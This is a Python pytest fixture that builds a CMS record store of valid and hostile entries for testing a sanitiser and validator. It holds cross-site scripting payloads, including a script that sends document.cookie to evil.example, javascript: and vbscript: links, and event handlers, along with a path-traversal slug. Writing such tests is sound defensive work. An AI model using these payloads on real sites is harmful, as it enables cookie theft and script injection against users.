"""A store that mixes valid records with every hostile case, as CMS exports leave them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import write_record

# A body that tries everything a sanitiser must stop, and a relative image and link.
HOSTILE_BODY = (
    '<p onclick="steal()">Lead <a href="javascript:alert(1)">click</a> and '
    '<a href="/society/other/">a relative link</a>.</p>'
    '<script>document.location="https://evil.example/"+document.cookie</script>'
    '<iframe src="https://tracker.example/pixel"></iframe>'
    '<img src="photos/lead.jpg" onerror="alert(2)" alt="Lead photo">'
    "<p>CDATA terminator ]]> inside, and a stray &lt;tag&gt; &amp; ampersand.</p>"
    '<p><a href="vbscript:msgbox(1)">vb</a> <img src="data:image/png;base64,AAAA"></p>'
    '<form action="https://evil.example/"><input name="q"></form>'
)

# Records that are repaired, not refused.
REPAIRED = {
    "control-chars-in-title": {"title": "Breaking\x00 news\x1b[31m in\x0b Minsk"},
    "cdata-and-scripts-in-body": {"body": HOSTILE_BODY},
    "date-without-zone": {"published": "2024-02-01 09:30"},
    "day-first-date": {"published": "06.08.2014"},
    "markup-in-title": {"title": "<b>Bold</b> &amp; <i>brave</i>"},
}
# Records that are refused: id -> (field named in the message, fields of the record).
REFUSED = {
    "traversal-slug": ("section", {"section": "../../etc"}),
    "missing-title": ("title", {"title": None}),
    "unreadable-date": ("published", {"published": "the 31st of Smarch"}),
    "relative-url": ("url", {"url": "/society/relative/"}),
    "unknown-section": ("section", {"section": "weather"}),
}
SMALL_LIMIT = 20_000  # limits.max_record_bytes of the hostile site


@pytest.fixture
def hostile_site(site: Path) -> Path:
    """The shared test site with a small record limit, holding every hostile case."""
    config = site / "syndicate.toml"
    config.write_text(config.read_text(encoding="utf-8") + f"\n[limits]\nmax_record_bytes = {SMALL_LIMIT}\n",
                      encoding="utf-8")
    write_record(site, "valid-one", body="<p>A plain, valid article.</p>")
    for record_id, fields in REPAIRED.items():
        write_record(site, record_id, **fields)
    for record_id, (_field, fields) in REFUSED.items():
        write_record(site, record_id, **fields)
    write_record(site, "oversized-body", body="<p>" + "x" * (2 * SMALL_LIMIT) + "</p>")
    # The same id in a second file: the first one (in path order) is kept.
    (site / "store" / "zz-later").mkdir()
    duplicate = json.loads((site / "store" / "valid-one.json").read_text(encoding="utf-8"))
    duplicate["title"] = "An impostor with the same id"
    (site / "store" / "zz-later" / "valid-one.json").write_text(json.dumps(duplicate), encoding="utf-8")
    return site


def all_files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.name.startswith(".")}
